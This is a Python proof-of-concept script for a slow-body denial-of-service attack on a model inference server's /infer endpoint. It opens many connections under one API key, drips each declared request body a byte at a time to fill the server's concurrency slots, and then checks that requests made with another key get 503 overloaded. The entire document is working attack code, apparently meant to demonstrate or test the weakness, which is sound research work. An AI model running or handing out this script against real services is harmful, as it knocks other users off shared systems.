"""A keyed client's slow bodies hold load-shedding slots for body_timeout (30 s).

Opens N connections with a key, each a complete head of POST .../infer declaring a body, then drips
it (one byte a second). Each request is inside the application (reading its body) and counted as
in flight; past max_concurrent_requests (1024), every other key's request gets 503 overloaded.
The key's rate limit costs one token per request: at rate r, r x body_timeout slots per key
(analyst in the demo: 20/s x 30 s = 600; two keys fill 1024).

Usage: slow_body_keyed.py HOST PORT ATTACK_KEY VICTIM_KEY N [open_rate_per_s]
"""

import http.client
import os
import socket
import sys
import time
from pathlib import Path

HOST, PORT, AKEY, VKEY, N = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], int(sys.argv[5])
RATE = float(sys.argv[6]) if len(sys.argv) > 6 else 0
head = (
    f"POST /v2/models/breast-cancer/infer HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {AKEY}\r\n"
    "Content-Length: 100000\r\n\r\n{"
).encode()
socks = []
t0 = time.monotonic()
for i in range(N):
    s = socket.create_connection((HOST, PORT))
    s.sendall(head)
    socks.append(s)
    if RATE:
        time.sleep(1 / RATE)
    if i % 100 == 0:
        for t in socks:
            try:
                t.sendall(b" ")
            except OSError:
                pass
print(f"{N} slow bodies opened in {time.monotonic() - t0:.1f} s", flush=True)
body = Path(os.environ.get("REQUEST_JSON", "demo/request.json")).read_text()
bad = 0
for _ in range(5):
    c = http.client.HTTPConnection(HOST, PORT, timeout=5)
    c.request(
        "POST", "/v2/models/breast-cancer/infer", body=body, headers={"Authorization": f"Bearer {VKEY}"}
    )
    r = c.getresponse()
    d = r.read()
    print("victim:", r.status, d[:100], flush=True)
    bad += r.status != 200
    for t in socks:
        try:
            t.sendall(b" ")
        except OSError:
            pass
    time.sleep(1)
for s in socks:
    s.close()
sys.exit(1 if bad else 0)
